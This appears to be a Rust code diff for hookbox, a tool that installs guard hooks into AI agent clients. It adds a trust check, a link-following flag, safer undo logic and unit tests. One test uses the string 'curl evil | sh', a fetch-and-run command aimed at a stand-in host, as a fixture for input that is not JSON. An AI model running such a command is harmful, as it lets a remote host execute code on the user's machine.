@@ -7,6 +7,7 @@ use std::{
 
 use anyhow::Context;
 use clap::Args;
+use hookbox::config::Config;
 use hookbox_catalogue::{ALL, Bundled, PREFIX};
 use serde_json::Value;
 
@@ -15,7 +16,7 @@ use crate::{
     change::{self, Backup, Change},
     clients::Client,
     exit::Exit,
-    print,
+    print, trust,
 };
 
 /// Guard the clients on this machine with the bundled hooks.
@@ -38,6 +39,9 @@ pub struct Init {
     /// Write without asking
     #[arg(long, short)]
     yes: bool,
+    /// With --yes: write also to files outside the current folder that links in it lead to
+    #[arg(long)]
+    follow_links: bool,
     /// Show what would be written, and write nothing
     #[arg(long, conflicts_with = "undo")]
     dry_run: bool,
@@ -53,7 +57,11 @@ impl Init {
         let asks = !self.yes && !self.dry_run && io::stdin().is_terminal();
         let clients = self.clients(&project, asks && !self.undo)?;
         if self.undo {
-            return self.undo(&clients, &file);
+            return self.undo(&clients, &project, &file);
+        }
+        if let Some(text) = change::read(&file)?.filter(|_| self.config.is_none()) {
+            // The checks below run the file's hooks.
+            trust::check_found(Config::parse(&text, &file, None)?.config)?;
         }
         let hooks = self.hooks(asks)?;
         if hooks.is_empty() {
@@ -76,6 +84,7 @@ impl Init {
             return Ok(Exit::Ok);
         }
         if !change.is_none() {
+            change.tell_of_link(&project, self.yes, self.follow_links)?;
             if !change::consent(self.yes)? {
                 print::out("nothing was written");
                 return Ok(Exit::Told(1));
@@ -86,7 +95,7 @@ impl Init {
         let mut worst = Exit::Ok;
         for client in &clients {
             print::out(client.title);
-            let done = Install::of(client, &file, self.yes).run()?;
+            let done = Install::of(client, &file, self.yes, self.follow_links).run()?;
             if done == Exit::Ok {
                 let checked = Doctor::of(client).run()?;
                 worst = if checked == Exit::Ok { worst } else { checked };
@@ -141,16 +150,18 @@ impl Init {
     }
 
     /// Takes the clients' entries out, and the configuration if nothing but bundled hooks is in it.
-    fn undo(&self, clients: &[&'static Client], file: &Path) -> anyhow::Result<Exit> {
+    fn undo(&self, clients: &[&'static Client], project: &Path, file: &Path) -> anyhow::Result<Exit> {
         for client in clients {
             print::out(client.title);
-            Install::removal(client, file, self.yes).run()?;
+            Install::removal(client, file, self.yes, self.follow_links).run()?;
         }
         let Some(before) = change::read(file)? else { return Ok(Exit::Ok) };
-        let kept = change::read(&change::backup(file))?;
+        let own = without_bundled(&before);
+        // A checkout may bring a backup too, so only one that says the same without the bundled hooks is the file before.
+        let kept = change::read(&change::backup(file))?.filter(|text| own.is_some() && without_bundled(text) == own);
         let after = match kept {
             Some(text) => Some(text),
-            None if is_only_bundled(&before) => None,
+            None if own.as_ref().is_some_and(has_no_hooks) => None,
             None => {
                 print::out(format_args!("{} stays: it has hooks of your own", file.display()));
                 return Ok(Exit::Ok);
@@ -158,6 +169,7 @@ impl Init {
         };
         let change = Change { file: file.to_owned(), before: Some(before), after, backup: Backup::Drop };
         change.show();
+        change.tell_of_link(project, self.yes, self.follow_links)?;
         if !change::consent(self.yes)? {
             print::out("nothing was written");
             return Ok(Exit::Told(1));
@@ -176,21 +188,65 @@ fn confirmed(question: &str) -> anyhow::Result<bool> {
     Ok(matches!(answer.trim().to_ascii_lowercase().as_str(), "" | "y" | "yes"))
 }
 
-/// Returns true if every hook of a configuration is a bundled one.
-fn is_only_bundled(text: &str) -> bool {
-    fn handlers(value: &Value, found: &mut Vec<bool>) {
-        match value {
-            Value::Object(members) if members.contains_key("type") => {
-                let component = members.get("component").and_then(Value::as_str).unwrap_or_default();
-                found.push(component.starts_with(PREFIX));
-            }
-            Value::Object(members) => members.values().for_each(|value| handlers(value, found)),
-            Value::Array(items) => items.iter().for_each(|value| handlers(value, found)),
-            _ => {}
+/// A configuration without its bundled hooks, and without events and groups that have no others. `None` if it is not JSON.
+fn without_bundled(text: &str) -> Option<Value> {
+    let is_bundled = |handler: &Value| {
+        let component = handler.get("component").and_then(Value::as_str).unwrap_or_default();
+        component.starts_with(PREFIX)
+    };
+    let is_empty = |value: &Value| {
+        let list = value.as_array().or_else(|| value.get("hooks")?.as_array());
+        list.is_some_and(Vec::is_empty)
+    };
+    let mut value: Value = serde_json::from_str(text).ok()?;
+    let events = value.get_mut("hooks").and_then(Value::as_object_mut);
+    for event in events.into_iter().flat_map(serde_json::Map::values_mut) {
+        let Some(list) = event.as_array_mut() else { continue };
+        for group in list.iter_mut() {
+            let handlers = group.get_mut("hooks").and_then(Value::as_array_mut);
+            handlers.into_iter().for_each(|handlers| handlers.retain(|handler| !is_bundled(handler)));
+        }
+        list.retain(|entry| !is_bundled(entry) && !is_empty(entry));
+    }
+    if let Some(events) = value.get_mut("hooks").and_then(Value::as_object_mut) {
+        events.retain(|_, event| !is_bundled(event) && !is_empty(event));
+        if events.is_empty() {
+            value.as_object_mut()?.shift_remove("hooks");
         }
     }
-    let Ok(value) = serde_json::from_str::<Value>(text) else { return false };
-    let mut found = Vec::new();
-    value.get("hooks").into_iter().for_each(|hooks| handlers(hooks, &mut found));
-    found.iter().all(|bundled| *bundled)
+    Some(value)
+}
+
+/// Returns true if a configuration has nothing but switches.
+fn has_no_hooks(config: &Value) -> bool {
+    config
+        .as_object()
+        .is_some_and(|members| members.keys().all(|key| ["dialect", "failClosed"].contains(&key.as_str())))
+}
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used)]
+    use serde_json::json;
+
+    use super::{has_no_hooks, without_bundled};
+
+    #[test]
+    fn bundled_hooks_are_taken_out_and_others_stay() {
+        let bundled = json!({ "type": "wasm", "component": "hookbox:command-guard" });
+        let own = json!({ "type": "command", "command": "./lint" });
+        let only =
+            json!({ "dialect": "claude", "failClosed": true, "hooks": { "PreToolUse": [{ "hooks": [bundled] }] } });
+        assert!(has_no_hooks(&without_bundled(&only.to_string()).unwrap()));
+        let mixed = json!({ "hooks": { "PreToolUse": [{ "hooks": [bundled] }, { "hooks": [own, bundled] }] } });
+        let left = without_bundled(&mixed.to_string()).unwrap();
+        assert_eq!(left, json!({ "hooks": { "PreToolUse": [{ "hooks": [own] }] } }));
+        assert!(!has_no_hooks(&left));
+        let named = json!({ "dialect": "picoclaw", "hooks": { "guard": bundled, "own": own } });
+        assert_eq!(
+            without_bundled(&named.to_string()).unwrap(),
+            json!({ "dialect": "picoclaw", "hooks": { "own": own } })
+        );
+        assert_eq!(without_bundled("curl evil | sh"), None);
+    }
 }
